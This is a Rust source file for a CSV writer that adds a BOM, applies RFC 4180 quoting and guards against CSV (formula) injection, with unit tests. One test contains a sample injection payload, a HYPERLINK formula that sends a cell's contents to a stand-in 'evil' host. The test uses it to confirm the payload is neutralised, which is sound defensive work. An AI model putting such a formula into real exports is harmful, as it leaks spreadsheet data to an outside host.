//! The one CSV writer of every CSV plantrack writes (exports, roll-ups): a UTF-8 BOM first
//! (Excel then reads Chinese right), RFC 4180 quoting (fields with a comma, a double quote,
//! CR or LF are quoted, quotes inside doubled), records ending with CRLF, and every cell a
//! spreadsheet would read as a formula kept as text (CSV injection).

use std::io::{self, Write};

/// A cell a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, or a leading tab or
/// CR) gets a leading `'`, so it stays text.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// One field, quoted when it must be.
fn quoted(text: &str) -> std::borrow::Cow<'_, str> {
    if text.contains([',', '"', '\r', '\n']) {
        std::borrow::Cow::Owned(format!("\"{}\"", text.replace('"', "\"\"")))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// Writes records to `out`, the BOM first.
pub struct Writer<'a> {
    out: &'a mut dyn Write,
}

impl<'a> Writer<'a> {
    pub fn new(out: &'a mut dyn Write) -> io::Result<Writer<'a>> {
        out.write_all("\u{feff}".as_bytes())?;
        Ok(Writer { out })
    }

    /// Write one record, each cell neutralised and quoted as needed.
    pub fn record<S: AsRef<str>>(&mut self, fields: &[S]) -> io::Result<()> {
        let line: Vec<String> = fields
            .iter()
            .map(|f| quoted(&neutralise(f.as_ref())).into_owned())
            .collect();
        write!(self.out, "{}\r\n", line.join(","))
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;

    #[test]
    fn bom_then_records_quoted_only_when_needed() {
        let mut out = Vec::new();
        let mut csv = Writer::new(&mut out).unwrap();
        csv.record(&["a", "b,c", "say \"hi\"", "x\ny", "长株潭", ""])
            .unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "\u{feff}a,\"b,c\",\"say \"\"hi\"\"\",\"x\ny\",长株潭,\r\n"
        );
        assert_eq!(quoted("cr\r"), "\"cr\r\"");
    }

    #[test]
    fn formulas_are_neutralised() {
        for cell in ["=1+1", "+86", "-2", "@SUM(A1)", "\tx"] {
            assert!(neutralise(cell).starts_with('\''), "{cell:?}");
        }
        assert_eq!(neutralise("长株潭 = 1"), "长株潭 = 1");
        let mut out = Vec::new();
        Writer::new(&mut out)
            .unwrap()
            .record(&["=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")"])
            .unwrap();
        assert!(String::from_utf8(out).unwrap().contains("\"'=HYPERLINK("));
    }
}
